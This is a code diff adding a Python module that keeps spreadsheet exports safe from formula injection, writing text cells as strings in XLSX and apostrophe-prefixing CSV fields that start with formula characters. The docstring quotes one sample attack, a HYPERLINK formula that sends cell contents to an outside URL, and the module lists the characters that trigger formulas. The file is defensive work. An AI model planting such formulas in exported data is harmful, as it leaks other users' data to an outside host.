@@ -1,0 +1,45 @@
+"""Spreadsheets that cannot run what people typed.
+
+A name or a note that starts with "=" (or "+", "-", "@") is a formula to Excel and WPS: a
+member could plant `=HYPERLINK("http://…?"&B2&C2, "Details")` in a leader's export. Every
+text cell is written as text — in XLSX as a string cell, never a formula; in CSV with a
+leading apostrophe, as OWASP's CSV-injection advice says — and numbers, dates and empty
+cells are written as they are.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+from openpyxl.worksheet.worksheet import Worksheet
+
+# What spreadsheet programs take as the start of a formula (OWASP: also tab and CR).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def append_row(sheet: Worksheet, values: Sequence[Any]) -> None:
+    """Append a row; a text value that looks like a formula stays text."""
+    sheet.append(list(values))
+    for cell in sheet[sheet.max_row]:
+        if cell.data_type == "f":
+            cell.data_type = "s"
+
+
+def csv_value(value: Any) -> Any:
+    """A CSV field: text that a spreadsheet would run as a formula gets a leading apostrophe."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return "" if value is None else value
+
+
+def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
+    """Rows as UTF-8 CSV with a BOM (so Excel and WPS read Chinese), every field quoted when
+    needed and neutralised as `csv_value` says."""
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    for row in rows:
+        writer.writerow([csv_value(v) for v in row])
+    return ("\ufeff" + out.getvalue()).encode("utf-8")
